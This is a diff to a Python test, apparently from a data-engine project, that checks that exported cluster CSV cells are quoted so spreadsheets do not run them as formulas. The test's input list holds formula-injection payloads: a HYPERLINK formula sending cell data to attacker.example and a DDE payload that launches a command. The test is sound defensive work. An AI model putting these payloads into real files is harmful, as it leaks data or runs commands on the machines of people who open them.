@@ -302,7 +302,7 @@ def test_clusters_csv_cells_never_run_as_formulas(tmp_path, metadata_store):
     from dataengine.report.outputs import spreadsheet_safe
 
     hostile = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
-               "@SUM(1+1)", "\tTAB", "\rCR", "-5", "-1.5e3", "plain", "a=b"]
+               "@SUM(1+1)", "\tTAB", "\rCR", "-5", "-1.5e3", "plain", "a=b", "two\rlines\nhere"]
     table = pa.table({"key": [str(i) for i in range(len(hostile))], "user": hostile})
     metadata_store(str(tmp_path / "s.zarr"), table, {"c": [np.arange(len(hostile))]})  # one cluster per user
     out = tmp_path / "out"
@@ -310,7 +310,7 @@ def test_clusters_csv_cells_never_run_as_formulas(tmp_path, metadata_store):
     with open(out / "clusters.csv", newline="") as handle:
         rows = list(csv.DictReader(handle))
     quoted = ["'" + value for value in hostile[:6]]
-    assert [row["user_dominant"] for row in rows] == [*quoted, "-5", "-1.5e3", "plain", "a=b"]
+    assert [row["user_dominant"] for row in rows] == [*quoted, "-5", "-1.5e3", "plain", "a=b", "two\rlines\nhere"]
     assert [row["cluster"] for row in rows] == [str(c) for c in range(len(hostile))]
     assert [row["user_purity"] for row in rows] == ["1"] * len(hostile)
     assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(-0.25) == -0.25 and spreadsheet_safe("") == ""
